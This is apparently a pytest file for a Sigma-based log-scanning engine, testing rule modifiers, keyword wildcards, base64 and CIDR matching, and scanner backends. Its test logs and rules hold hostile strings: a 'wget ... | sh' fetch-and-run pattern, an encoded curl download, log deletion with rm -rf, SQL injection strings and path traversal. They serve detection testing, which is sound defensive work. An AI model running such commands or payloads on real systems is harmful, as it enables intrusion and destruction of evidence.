from __future__ import annotations

import pytest
import yaml

from wangan.engines.logscan.event import Event
from wangan.engines.logscan.parsers import LineParser
from wangan.engines.logscan.sigma import RuleSet, build_scanner


def rs_from(*docs: str) -> RuleSet:
    rs = RuleSet()
    for d in docs:
        rs.add_doc(yaml.safe_load(d), "test")
    rs.finalize()
    return rs


def ev(line: str) -> Event:
    return LineParser().parse(line)


WEB = '203.0.113.8 - - [03/Mar/2026:10:00:00 +0000] "{m} {u} HTTP/1.1" {s} 12 "-" "{ua}"'


def web(u="/", m="GET", s=200, ua="Mozilla/5.0"):
    return ev(WEB.format(m=m, u=u, s=s, ua=ua))


def test_modifiers_and_conditions():
    rs = rs_from("""
title: t1
id: r1
author: Test Author
logsource: {category: webserver}
detection:
  sel_a: {cs-uri-query|contains|all: ['union', 'select']}
  sel_b: {cs-uri-query|startswith: '/admin'}
  sel_c: {cs-uri-query|endswith: ['.bak', '.old']}
  sel_re: {cs-user-agent|re: '^sqlmap/\\d'}
  filter: {sc-status: 404}
  condition: (1 of sel_* ) and not filter
level: high
""")
    assert [r.id for r in rs.match(web("/x?q=UNION%20x%20SELECT"))] == ["r1"]
    assert rs.match(web("/x?q=union")) == []
    assert rs.match(web("/admin/panel"))
    assert rs.match(web("/site.BAK"))
    assert rs.match(web("/", ua="sqlmap/1.7"))
    assert not rs.match(web("/", ua="SQLMAP/1.7"))  # re is case-sensitive
    assert not rs.match(web("/admin", s=404))
    assert rs.match(web("/admin"))[0].author == "Test Author"


def test_wildcards_keywords_all_of_them_and_null():
    rs = rs_from("""
title: kw
id: kw
logsource: {product: linux}
detection:
  keywords: ['wget * | sh', 'Exact?Phrase']
  condition: keywords
""", """
title: allthem
id: allthem
logsource: {category: webserver}
detection:
  a: {cs-method: POST}
  b: {cs-referer: null}
  condition: all of them
""", """
title: b64
id: b64
logsource: {product: linux}
detection:
  s: {CommandLine|base64offset|contains: 'http://'}
  condition: s
""", """
title: cidr
id: cidr
logsource: {category: webserver}
detection:
  s: {c-ip|cidr: '203.0.113.0/24'}
  condition: s
""")
    e = ev("Mar  3 10:00:00 h bash: wget http://x | sh")
    assert [r.id for r in rs.match(e)] == ["kw"]
    assert [r.id for r in rs.match(ev("Mar  3 10:00:00 h bash: exactXphrase"))] == ["kw"]
    ids = {r.id for r in rs.match(web("/", m="POST"))}
    assert ids == {"allthem", "cidr"}
    import base64
    enc = base64.b64encode(b"curl http://203.0.113.1/x").decode()
    e = ev(f"Mar  3 10:00:00 h sudo:  a : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo {enc}")
    assert "b64" in {r.id for r in rs.match(e)}


def test_unsupported_reported_not_raised():
    rs = rs_from("""
title: agg
id: agg
logsource: {product: linux}
detection:
  s: {user: x}
  condition: s | count() by src_ip > 5
""", """
title: mod
id: mod
logsource: {product: linux}
detection:
  s: {user|utf16le: x}
  condition: s
""")
    assert len(rs.rules) == 0 and len(rs.report.unsupported) == 2


def test_prefilter_equals_full_evaluation(ruleset):
    import sys
    from pathlib import Path
    sys.path.insert(0, str(Path(__file__).resolve().parents[5] / "bench" / "logscan"))
    import corpus
    lp = LineParser()
    extra = [
        "Mar  3 10:00:00 h bash: rm -rf /var/log/syslog",
        "Mar  3 10:00:00 h sshd[1]: fatal: buffer_get_string: bad string",
        '203.0.113.1 - - [03/Mar/2026:10:00:00 +0000] "GET /x?a=%27%20or%20%271%27%3d%271 HTTP/1.1" 200 1 "-" "Nikto/2.5"',
        "Mar  3 10:00:00 h kernel: eth0 entered promiscuous mode",
    ]
    n = 0
    for line in extra + [generated for _, generated in corpus.generate(20000, seed=3)]:
        e = lp.parse(line)
        fast = [r.id for r in ruleset.match(e)]
        slow = [r.id for r in ruleset.match_all(e)]
        assert sorted(fast) == sorted(slow), line
        n += bool(fast)
    assert n > 1000


@pytest.mark.parametrize("backend", ["hyperscan", "ahocorasick", "re2", "python"])
def test_scanner_backends_agree(backend):
    lits = ["union select", "sqlmap", "../..", "登录", "a+b"]
    try:
        scan, name = build_scanner(lits, backend)
    except Exception:  # pragma: no cover
        pytest.skip(backend)
    if name != backend:
        pytest.skip(f"{backend} not installed")
    assert sorted(scan("x sqlmap ../../ union select 登录 a+b")) == [0, 1, 2, 3, 4]
    assert list(scan("nothing here")) == []


def test_rule_counts_and_authors(ruleset):
    builtin = [r for r in ruleset.rules if r.builtin]
    assert len(builtin) >= 60
    assert len(ruleset.rules) >= 100
    assert not ruleset.report.unsupported
    assert all(r.author and r.author != "unknown" for r in ruleset.rules)
    assert all(r.tactics or r.techniques for r in builtin)


def test_sample_sigma_rules_fire(ruleset):
    cases = {
        "Dec 21 17:13:54 testserver useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash":
            "Privileged User Has Been Created",
        '203.0.113.2 - - [03/Mar/2026:10:00:00 +0000] "GET /api?x=1&y=@@version HTTP/1.1" 200 1 "-" "Mozilla/5.0"':
            "SQL Injection Strings In URI",
        '203.0.113.2 - - [03/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "Mozilla/5.0 gobuster/3.6"':
            "Suspicious User-Agents Related To Recon Tools",
        "Mar  3 10:00:00 h kernel: device eth0 entered promiscuous mode": "Suspicious Log Entries",
        "2026/03/03 10:00:00 [alert] 1#0: worker process 2 exited on signal 6 (core dumped)": "Nginx Core Dump",
    }
    lp = LineParser()
    for line, title in cases.items():
        assert title in [r.title for r in ruleset.match(lp.parse(line))], line
    # SQLi rule filters 404s
    e = lp.parse('203.0.113.2 - - [03/Mar/2026:10:00:00 +0000] "GET /?a=@@version HTTP/1.1" 404 1 "-" "M"')
    assert "SQL Injection Strings In URI" not in [r.title for r in ruleset.match(e)]


def test_builtin_only_loads_without_shared(builtin_rules):
    assert len(builtin_rules.rules) >= 60 and len(builtin_rules.correlations) >= 5
